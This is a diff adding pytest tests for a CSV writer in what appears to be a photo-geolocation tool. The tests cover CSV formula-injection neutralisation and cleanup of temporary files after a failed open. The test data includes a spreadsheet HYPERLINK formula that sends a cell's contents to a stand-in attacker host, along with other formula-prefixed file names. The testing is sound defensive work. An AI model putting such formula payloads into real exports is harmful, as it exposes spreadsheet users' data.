@@ -679,3 +679,69 @@ def test_csv_when_everything_failed(tmp_path):
     assert out.read_text(encoding="utf-8").splitlines()[0].startswith("photo_path,")
     assert len(out.read_text(encoding="utf-8").splitlines()) == 1
     assert "unreadable" in failures_path(out).read_text(encoding="utf-8")
+
+
+# ------------------------------------------- issue 19.6: CSV formula injection
+
+
+FORMULA_NAMES = ['=HYPERLINK("https:evil.example?"&A1,"click").jpg', "+cmd.jpg", "-2+3.jpg",
+                 "@SUM(A1).jpg", "\tTAB.jpg", "\rCR.jpg"]
+
+
+def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers(
+        tmp_path, cells):
+    """A photo named ``=HYPERLINK(...)``.jpg is a live formula when the CSV is opened in a
+    spreadsheet: every text cell starting with = + - @ tab CR gets a leading ``'``
+    (OWASP); a negative longitude is a number and is written as one."""
+    folder = tmp_path / "photos"
+    folder.mkdir()
+    new_york = {"47e67": 1.0}  # any cells: the point is given
+    preds = [make_prediction(cells, folder / name, new_york, lat=40.71, lon=-74.0)
+             for name in FORMULA_NAMES]
+    preds.append(make_prediction(cells, folder / "plain.jpg", new_york, lat=-33.9, lon=-70.6))
+    fails = [PhotoFailure(str(folder / name), f"{name}") for name in FORMULA_NAMES]
+    main, fails_csv = write_csv(tmp_path / "run.csv", preds, fails, RUN)
+    with open(main, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    with open(fails_csv, newline="", encoding="utf-8") as fh:
+        frows = list(csv.DictReader(fh))
+    assert [r["file_name"] for r in rows] == ["'" + n for n in FORMULA_NAMES] + ["plain.jpg"]
+    assert [r["file_name"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
+    assert [r["reason"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
+    # absolute paths start with "/", not a formula: as they were
+    assert [r["photo_path"] for r in rows] == [str(folder / n) for n in FORMULA_NAMES] + [
+        str(folder / "plain.jpg")]
+    # numbers untouched: negative coordinates are numbers, not neutralised text
+    assert all(r["lon"] == "-74.0" and r["lat"] == "40.71" for r in rows[:-1])
+    assert (rows[-1]["lat"], rows[-1]["lon"]) == ("-33.9", "-70.6")
+    assert all(not v.startswith("'") for r in rows for k, v in r.items()
+               if k not in ("file_name",) and not k.startswith("photo"))
+    assert float(rows[0]["cand1_lon"]) == preds[0].candidates[0].lon
+
+
+def test_a_csv_whose_failures_file_cannot_be_opened_leaves_no_temporary_file(tmp_path):
+    """The main file's temporary sibling is opened first; when the failures file's cannot
+    be (here its name is too long for the file system, the main one's is not), the first
+    is closed and removed, not leaked."""
+    stem = "r" * 230  # "<stem>.<12 hex>.tmp.csv" fits 255 bytes, "<stem>_failures..." not
+    target = tmp_path / f"{stem}.csv"
+    fd_dir = Path("/proc/self/fd")
+    if not fd_dir.is_dir():
+        pytest.skip("needs /proc to see open files")
+
+    def open_in_tmp():
+        found = []
+        for fd in fd_dir.iterdir():
+            try:
+                found.append(os.readlink(fd))
+            except OSError:
+                pass
+        return [t for t in found if str(tmp_path) in t]
+
+    with pytest.raises(OSError) as caught:
+        write_csv(target, [], [], RUN)
+    assert "File name too long" in str(caught.value) or caught.value.errno == 36
+    assert "_failures" in str(caught.value.filename)  # the second open failed
+    assert list(tmp_path.iterdir()) == []
+    assert open_in_tmp() == []
+
